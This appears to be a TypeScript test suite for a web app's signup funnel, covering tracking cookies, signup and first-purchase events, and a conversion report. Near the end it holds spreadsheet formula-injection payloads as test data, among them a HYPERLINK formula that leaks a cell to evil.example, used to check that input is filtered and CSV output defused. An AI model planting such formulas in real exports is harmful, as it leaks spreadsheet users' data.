// The acquisition funnel: first-touch cookies (proxy.ts), the signup's start and completion, the first
// purchase, and the conversion report over a crafted set of events.
import { and, eq } from 'drizzle-orm';
import { NextRequest } from 'next/server';
import { describe, expect, it } from 'vitest';
import { camClicks, funnelEvents, users } from '@/lib/server/db/schema';
import { conversionReport } from '@/lib/server/landers/conversion-report';
import { recordFunnelEvent } from '@/lib/server/landers/funnel';
import { formatConversionReport } from '@/lib/server/landers/format-conversion-report';
import { operatorClient } from '../helpers/operators';
import { upsertSite } from '@/lib/server/settings/update-site';
import { proxy } from '@/proxy';
import { buildSignup } from '../factories/build-signup';
import { createMember } from '../factories/create-member';
import { apiClient, clientFor } from '../helpers/api';
import { withTestDatabase } from '../helpers/database';
import { bundleIn, drainJobs, inProcessFetch, sandboxIdOf } from './payments-helpers';

process.env.TRUST_PROXY = '1';
const db = withTestDatabase();
const database = () => db.handle().db;

const page = (url: string, headers: Record<string, string> = {}) =>
  proxy(
    new NextRequest(new URL(url, 'http://lovelane.test'), { headers: { host: 'lovelane.test', ...headers } }),
  );
const cookieLines = (res: Response) => res.headers.getSetCookie();
const cookieLine = (res: Response, name: string) =>
  cookieLines(res).find((line) => line.startsWith(`${name}=`));
const cookieValue = (line: string | undefined) =>
  decodeURIComponent(line?.split(';')[0]?.split('=')[1] ?? '');
const tracking = (value: object) => `tracking=${encodeURIComponent(JSON.stringify(value))}`;

describe('first touch, on the server', () => {
  it('stores the entry page’s traffic source and lander for 30 days, readable by the signup', async () => {
    const res = await page(
      '/landers/gallery/Berlin?network=adnet&sub1=banner&ref=' + 'x'.repeat(200) + '&utm=1',
    );
    const source = cookieLine(res, 'tracking');
    expect(JSON.parse(cookieValue(source))).toEqual({ network: 'adnet', sub1: 'banner' });
    expect(cookieValue(cookieLine(res, 'lander'))).toBe('gallery/berlin');
    for (const line of [source, cookieLine(res, 'lander')]) {
      expect(line).toMatch(/Max-Age=2592000/);
      expect(line).toMatch(/Path=\//);
      expect(line).toMatch(/SameSite=lax/i);
      expect(line).not.toMatch(/HttpOnly/i);
      expect(line).not.toMatch(/Secure/i);
    }
    // The page rendered for this very request sees them already (a search open only to visitors
    // from a traffic source opens on the first page).
    expect(res.headers.get('x-middleware-request-cookie')).toMatch(/tracking=.*adnet/);
  });

  it('marks them Secure over TLS', async () => {
    const res = await page('https://lovelane.test/members/12/landing2/summer?network=adnet');
    expect(cookieLine(res, 'tracking')).toMatch(/Secure/);
    expect(cookieValue(cookieLine(res, 'lander'))).toBe('member-landing2/summer');
  });

  it('keeps the first touch: a later entry with other values changes nothing', async () => {
    const res = await page('/landers/video?network=other&sub1=late', {
      cookie: `${tracking({ network: 'adnet' })}; lander=gallery`,
    });
    expect(cookieLines(res).filter((line) => /^(tracking|lander)=/.test(line))).toEqual([]);
    // The lander is kept independently of the source: a first lander comes with a later entry.
    const later = await page('/landers/video?network=other', { cookie: tracking({ network: 'adnet' }) });
    expect(cookieLine(later, 'tracking')).toBeUndefined();
    expect(cookieValue(cookieLine(later, 'lander'))).toBe('video');
  });

  it('replaces a stored value that the checks refuse, as the browser does', async () => {
    const res = await page('/?network=adnet', {
      cookie: `${tracking({ network: 'n'.repeat(65) })}; lander=nosuch`,
    });
    expect(JSON.parse(cookieValue(cookieLine(res, 'tracking')))).toEqual({ network: 'adnet' });
    expect(cookieLine(res, 'lander')).toBeUndefined();
  });

  it('stores nothing for pages that are not landers without a source, files, members, or refusals', async () => {
    expect(cookieLines(await page('/members?x=1')).filter((l) => /^(tracking|lander)=/.test(l))).toEqual([]);
    expect(cookieLine(await page('/icons/icon-192.png?network=adnet'), 'tracking')).toBeUndefined();
    expect(cookieLine(await page('/landers/tinderswipe/berlin'), 'lander')).toBeUndefined();
    const member = await page('/landers/gallery?network=adnet', { cookie: 'auth_session=some-token' });
    expect(cookieLines(member).filter((l) => /^(tracking|lander)=/.test(l))).toEqual([]);
    for (const refusal of [{ 'sec-gpc': '1' }, { dnt: '1' }] as Record<string, string>[]) {
      const res = await page('/landers/gallery?network=adnet', refusal);
      expect(cookieLines(res).filter((l) => /^(tracking|lander)=/.test(l))).toEqual([]);
      expect(res.status).toBe(200);
    }
  });
});

async function eventsOf(userId: number) {
  return database().select().from(funnelEvents).where(eq(funnelEvents.userId, userId));
}

describe('signup', () => {
  it('keeps the first touch on the account and counts the signup as completed', async () => {
    const client = apiClient();
    client.cookies.set('tracking', encodeURIComponent(JSON.stringify({ network: 'adnet', sub2: 'c7' })));
    client.cookies.set('lander', encodeURIComponent('member-landing2/summer'));
    const input = buildSignup();
    const res = await client.post('/api/signup.php', input);
    expect(res.status).toBe(201);
    const [user] = await database().select().from(users).where(eq(users.email, input.email));
    expect(user).toMatchObject({
      trackingNetwork: 'adnet',
      trackingSub2: 'c7',
      signupLander: 'member-landing2',
      signupLanderSlug: 'summer',
    });
    expect(await eventsOf(user?.id ?? 0)).toEqual([
      expect.objectContaining({
        kind: 'signup_completed',
        lander: 'member-landing2',
        slug: 'summer',
        network: 'adnet',
        sub2: 'c7',
      }),
    ]);
  });

  it('takes the source the browser sends before the cookie, and stores no lander it cannot check', async () => {
    const client = apiClient();
    client.cookies.set('tracking', encodeURIComponent(JSON.stringify({ network: 'cookienet' })));
    client.cookies.set('lander', 'gallery/<b>');
    const input = buildSignup({ tracking: { network: 'sentnet' } });
    expect((await client.post('/api/signup.php', input)).status).toBe(201);
    const [user] = await database().select().from(users).where(eq(users.email, input.email));
    expect(user).toMatchObject({ trackingNetwork: 'sentnet', signupLander: null });
    expect(await eventsOf(user?.id ?? 0)).toEqual([
      expect.objectContaining({ kind: 'signup_completed', lander: null, network: 'sentnet' }),
    ]);
  });

  it('opens a signup for visitors from a traffic source only when a network is stored', async () => {
    await upsertSite({ domain: 'sources.test', changes: { signups: 'with_trafficsource' } });
    const without = apiClient({ host: 'sources.test' });
    without.cookies.set('tracking', encodeURIComponent(JSON.stringify({ ref: 'no-network' })));
    expect((await without.post('/api/signup.php', buildSignup())).json.error.code).toBe('signups_closed');
    const broken = apiClient({ host: 'sources.test' });
    broken.cookies.set('tracking', encodeURIComponent('{"network":"x","bad":1}'));
    expect((await broken.post('/api/signup.php', buildSignup())).status).toBe(403);
    const tracked = apiClient({ host: 'sources.test' });
    tracked.cookies.set('tracking', encodeURIComponent(JSON.stringify({ network: 'adnet' })));
    expect((await tracked.post('/api/signup.php', buildSignup())).status).toBe(201);
  });
});

describe('signup started', () => {
  const started = () =>
    database()
      .select()
      .from(funnelEvents)
      .where(and(eq(funnelEvents.kind, 'signup_started'), eq(funnelEvents.sub3, 'started-test')));

  it('is recorded from the browser with the visitor’s first touch', async () => {
    const client = apiClient();
    client.cookies.set(
      'tracking',
      encodeURIComponent(JSON.stringify({ network: 'adnet', sub3: 'started-test' })),
    );
    client.cookies.set('lander', 'gallery/berlin');
    expect((await client.post('/api/funnel.php', { kind: 'signup_started' })).status).toBe(204);
    // A visitor who stores nothing names the source of the page they are on.
    const unstored = apiClient();
    const sent = { kind: 'signup_started', tracking: { network: 'gpcnet', sub3: 'started-test' } };
    expect((await unstored.post('/api/funnel.php', sent)).status).toBe(204);
    expect(await started()).toEqual([
      expect.objectContaining({ lander: 'gallery', slug: 'berlin', network: 'adnet', userId: null }),
      expect.objectContaining({ lander: null, network: 'gpcnet' }),
    ]);
  });

  it('is not recorded for a member, and takes nothing but the signup’s start', async () => {
    const member = await clientFor(await createMember(database()));
    member.cookies.set('tracking', encodeURIComponent(JSON.stringify({ network: 'x', sub3: 'member-test' })));
    expect((await member.post('/api/funnel.php', { kind: 'signup_started' })).status).toBe(204);
    const rows = await database().select().from(funnelEvents).where(eq(funnelEvents.sub3, 'member-test'));
    expect(rows).toEqual([]);
    expect((await apiClient().post('/api/funnel.php', { kind: 'first_purchase' })).status).toBe(422);
    expect((await apiClient().post('/api/funnel.php', { kind: 'signup_started', userId: 3 })).status).toBe(
      422,
    );
  });

  it('is limited per client address', async () => {
    const client = apiClient();
    const statuses = [];
    for (let i = 0; i < 21; i += 1)
      statuses.push((await client.post('/api/funnel.php', { kind: 'signup_started' })).status);
    expect(statuses.slice(0, 20).every((status) => status === 204)).toBe(true);
    expect(statuses[20]).toBe(429);
  });
});

describe('first purchase', () => {
  async function buyAndPay(client: Awaited<ReturnType<typeof clientFor>>) {
    const bundle = await bundleIn(database(), 'NL');
    const res = await client.post('/api/payment.php', { bundle: bundle.id, method: 'ideal', country: 'NL' });
    expect(res.status, JSON.stringify(res.json)).toBe(201);
    const sandboxId = sandboxIdOf(res.json.payment.checkout_url);
    const chosen = await client.post('/api/sandbox-payment.php', {
      payment: sandboxId,
      outcome: 'paid',
    });
    expect(chosen.status).toBe(200);
    await drainJobs();
    return sandboxId;
  }

  it('is recorded once, with the member’s stored source and lander, however often payments are booked', async () => {
    const userId = await createMember(database());
    await database()
      .update(users)
      .set({
        trackingNetwork: 'adnet',
        trackingSub1: 'b1',
        signupLander: 'gallery',
        signupLanderSlug: 'berlin',
      })
      .where(eq(users.id, userId));
    const client = await clientFor(userId);
    const first = await buyAndPay(client);
    // The provider calls again for the same payment; then a second purchase is paid.
    const again = await inProcessFetch()('http://lovelane.test/api/webhooks/sandbox.php', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `id=${first}`,
    });
    expect(again.status).toBe(200);
    await buyAndPay(client);
    const purchases = (await eventsOf(userId)).filter((e) => e.kind === 'first_purchase');
    expect(purchases).toEqual([
      expect.objectContaining({ lander: 'gallery', slug: 'berlin', network: 'adnet', sub1: 'b1' }),
    ]);
  });

  it('is never recorded twice even when one is there already, and the purchase is still booked', async () => {
    const userId = await createMember(database());
    await recordFunnelEvent({ kind: 'first_purchase', userId });
    await buyAndPay(await clientFor(userId));
    const [member] = await database()
      .select({ paid: users.paidUser })
      .from(users)
      .where(eq(users.id, userId));
    expect(member?.paid).toBe(true);
    expect((await eventsOf(userId)).filter((e) => e.kind === 'first_purchase')).toHaveLength(1);
  });
});

describe('conversion report', () => {
  // A month of its own, away from the events the other tests record today.
  const at = (iso: string) => new Date(iso);
  async function craft() {
    const views = [
      ['gallery', 'adnet', '2031-03-01T00:00:00Z'],
      ['gallery', 'adnet', '2031-03-10T12:00:00Z'],
      ['gallery', 'adnet', '2031-03-31T23:59:59.999Z'],
      ['gallery', 'adnet', '2031-03-15T08:00:00Z'],
      ['gallery', null, '2031-03-15T08:00:00Z'],
      ['video', 'adnet', '2031-03-20T08:00:00Z'],
      // Outside the range by a millisecond on either side.
      ['gallery', 'adnet', '2031-02-28T23:59:59.999Z'],
      ['gallery', 'adnet', '2031-04-01T00:00:00Z'],
    ] as const;
    for (const [lander, network, when] of views)
      await recordFunnelEvent({
        kind: 'lander_view',
        lander,
        tracking: network ? { network } : null,
        at: at(when),
      });
    const step = (
      kind: 'signup_started' | 'signup_completed' | 'first_purchase',
      when: string,
      network = 'adnet',
    ) => recordFunnelEvent({ kind, lander: 'gallery', tracking: { network }, at: at(when) });
    await step('signup_started', '2031-03-10T12:01:00Z');
    await step('signup_started', '2031-03-11T12:01:00Z');
    await step('signup_completed', '2031-03-10T12:05:00Z');
    await step('signup_completed', '2031-03-11T12:05:00Z');
    await step('first_purchase', '2031-03-12T12:05:00Z');
    await step('first_purchase', '2031-04-02T12:05:00Z');
    await database()
      .insert(camClicks)
      .values([
        {
          camId: 'c1',
          placement: 'gallery',
          lander: 'gallery',
          network: 'adnet',
          createdAt: at('2031-03-05T10:00:00Z'),
        },
        {
          camId: 'c2',
          placement: 'search',
          lander: null,
          network: null,
          createdAt: at('2031-03-05T10:00:00Z'),
        },
      ]);
  }

  it('counts views, signups, first purchases and cam clicks per lander and network, with the rates', async () => {
    await craft();
    const report = await conversionReport({ from: '2031-03-01', to: '2031-03-31' });
    expect(report.rows).toEqual([
      {
        lander: 'gallery',
        network: 'adnet',
        views: 4,
        signups_started: 2,
        signups_completed: 2,
        first_purchases: 1,
        cam_clicks: 1,
        signup_rate: 0.5,
        purchase_rate: 0.5,
      },
      expect.objectContaining({
        lander: 'gallery',
        network: null,
        views: 1,
        signup_rate: 0,
        purchase_rate: null,
      }),
      expect.objectContaining({ lander: 'video', network: 'adnet', views: 1, signups_completed: 0 }),
      expect.objectContaining({ lander: null, network: null, views: 0, cam_clicks: 1, signup_rate: null }),
    ]);
    expect(report.totals).toMatchObject({
      views: 6,
      signups_completed: 2,
      first_purchases: 1,
      cam_clicks: 2,
    });
    expect(report.totals.signup_rate).toBeCloseTo(2 / 6);

    const byLander = await conversionReport({ from: '2031-03-01', to: '2031-03-31', by: 'lander' });
    expect(byLander.rows.map((r) => [r.lander, r.network, r.views])).toEqual([
      ['gallery', null, 5],
      ['video', null, 1],
      [null, null, 0],
    ]);
    const byNetwork = await conversionReport({ from: '2031-03-01', to: '2031-03-31', by: 'network' });
    expect(byNetwork.rows.map((r) => [r.network, r.views, r.signups_completed])).toEqual([
      ['adnet', 5, 2],
      [null, 1, 0],
    ]);
  });

  it('takes whole days in UTC, both ends included', async () => {
    const first = await conversionReport({ from: '2031-03-01', to: '2031-03-01', by: 'network' });
    expect(first.totals.views).toBe(1);
    const last = await conversionReport({ from: '2031-03-31', to: '2031-03-31' });
    expect(last.totals.views).toBe(1);
    const after = await conversionReport({ from: '2031-04-01', to: '2031-04-30' });
    expect(after.totals).toMatchObject({
      views: 1,
      first_purchases: 1,
      signups_completed: 0,
      purchase_rate: null,
    });
    const empty = await conversionReport({ from: '2031-05-01', to: '2031-05-31' });
    expect(empty.rows).toEqual([]);
    await expect(conversionReport({ from: '2031-03-02', to: '2031-03-01' })).rejects.toThrow(
      /must not be after/,
    );
    await expect(conversionReport({ from: '2031-02-30', to: '2031-03-01' })).rejects.toThrow();
  });

  it('prints as a table, CSV or JSON', async () => {
    const report = await conversionReport({ from: '2031-03-01', to: '2031-03-31', by: 'lander' });
    const table = formatConversionReport(report, 'table');
    expect(table).toMatch(
      /^lander\s+views\s+started\s+signups\s+purchases\s+signup\/view\s+purchase\/signup\s+cam clicks$/m,
    );
    expect(table).toMatch(/^gallery\s+5\s+2\s+2\s+1\s+40\.0 %\s+50\.0 %\s+1$/m);
    expect(table).toMatch(/^total\s+6\s+/m);
    const csv = formatConversionReport(report, 'csv').split('\r\n');
    expect(csv[0]).toBe(
      'lander,views,signups_started,signups_completed,first_purchases,signup_rate,purchase_rate,cam_clicks',
    );
    expect(csv[1]).toBe('"gallery",5,2,2,1,0.4000,0.5000,1');
    expect(csv[3]).toBe(',0,0,0,0,,,1');
    expect(JSON.parse(formatConversionReport(report, 'json'))).toEqual(report);
  });

  it('is served to admins of the operator console', async () => {
    const { client: admin } = await operatorClient('admin');
    const res = await admin.get('/api/operator/conversion.php?from=2031-03-01&to=2031-03-31&by=network');
    expect(res.status).toBe(200);
    expect(res.json.rows[0]).toMatchObject({ network: 'adnet', views: 5 });
    expect((await admin.get('/api/operator/conversion.php?from=2031-03-31&to=2031-03-01')).status).toBe(422);

    const { client: helper } = await operatorClient('support');
    expect(
      (await helper.get('/api/operator/conversion.php?from=2031-03-01&to=2031-03-31')).json.error.code,
    ).toBe('forbidden');
  });
});

/** Values a lander's address can carry that a spreadsheet would run as formulas. */
const HOSTILE = {
  network: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  ref: '+SUM(9*9)',
  sub1: '-2+3',
  sub2: '@SUM(1+1)',
  sub3: '\tcmd',
};

describe('traffic-source values that are not plain words', () => {
  it('are dropped where the address names them: the cookie keeps only the plain ones', async () => {
    const query = new URLSearchParams({ ...HOSTILE, sub3: 'banner-7' });
    const res = await page(`/landers/gallery?${query.toString()}`);
    expect(JSON.parse(cookieValue(cookieLine(res, 'tracking')))).toEqual({ sub3: 'banner-7' });
    for (const value of ['a"b', 'a,b', 'a;b', '<b>', "it's", 'x'.repeat(129)]) {
      const odd = await page(`/landers/gallery?${new URLSearchParams({ sub1: value }).toString()}`);
      expect(cookieLine(odd, 'tracking')).toBeUndefined();
    }
  });

  it('never reach the account or the funnel from a signup, sent or stored', async () => {
    const client = apiClient();
    const input = buildSignup({ tracking: { ...HOSTILE, sub3: 'plain_3' } });
    expect((await client.post('/api/signup.php', input)).status).toBe(201);
    const [user] = await database().select().from(users).where(eq(users.email, input.email));
    expect(user).toMatchObject({
      trackingNetwork: null,
      trackingRef: null,
      trackingSub1: null,
      trackingSub2: null,
      trackingSub3: 'plain_3',
    });
    expect(await eventsOf(user?.id ?? 0)).toEqual([
      expect.objectContaining({ kind: 'signup_completed', network: null, ref: null, sub3: 'plain_3' }),
    ]);

    // A cookie holding one counts as no first touch at all.
    const stored = apiClient();
    stored.cookies.set('tracking', encodeURIComponent(JSON.stringify({ network: HOSTILE.network })));
    const second = buildSignup();
    expect((await stored.post('/api/signup.php', second)).status).toBe(201);
    const [other] = await database().select().from(users).where(eq(users.email, second.email));
    expect(other).toMatchObject({ trackingNetwork: null });
  });

  it('never reach the funnel from the browser’s report or any other caller', async () => {
    const sent = { kind: 'signup_started', tracking: { network: HOSTILE.ref, sub3: 'hostile-test' } };
    expect((await apiClient().post('/api/funnel.php', sent)).status).toBe(204);
    await recordFunnelEvent({
      kind: 'lander_view',
      lander: 'gallery',
      tracking: { ...HOSTILE, sub3: 'hostile-test' },
    });
    const rows = await database().select().from(funnelEvents).where(eq(funnelEvents.sub3, 'hostile-test'));
    expect(rows).toHaveLength(2);
    for (const row of rows)
      expect([row.network, row.ref, row.sub1, row.sub2]).toEqual([null, null, null, null]);
  });
});

describe('conversion report as CSV', () => {
  it('defuses every cell a spreadsheet would run as a formula, and quotes the text cells', async () => {
    // Stored before values were checked at intake.
    const networks = [...Object.values(HOSTILE), '\rcmd', 'adnet', 'a "quoted", network', '＝1+1'];
    await database()
      .insert(funnelEvents)
      .values(
        networks.map((network) => ({
          kind: 'lander_view' as const,
          lander: 'gallery',
          network,
          createdAt: new Date('2032-05-05T10:00:00Z'),
        })),
      );
    const report = await conversionReport({ from: '2032-05-01', to: '2032-05-31', by: 'both' });
    const csv = formatConversionReport(report, 'csv');
    const cells = new Map(
      csv
        .split('\r\n')
        .slice(1)
        .map((line) => {
          const match = /^"gallery",("(?:[^"]|"")*"),/.exec(line);
          return [match?.[1] ?? line, line] as const;
        }),
    );
    const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;
    for (const value of [...Object.values(HOSTILE), '\rcmd', '＝1+1']) {
      expect(cells.has(quoted(`'${value}`)), `${JSON.stringify(value)} in\n${csv}`).toBe(true);
    }
    expect(cells.has('"adnet"')).toBe(true);
    expect(cells.has('"a ""quoted"", network"')).toBe(true);
    // No cell of any line starts a formula once the quotes are read.
    for (const line of csv.split('\r\n').slice(1)) {
      const values = [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) =>
        (m[1] ?? '').replace(/^"|"$/g, '').replaceAll('""', '"'),
      );
      for (const value of values) expect(value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    // The table for the terminal shows no control characters either.
    expect(formatConversionReport(report, 'table')).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
  });
});
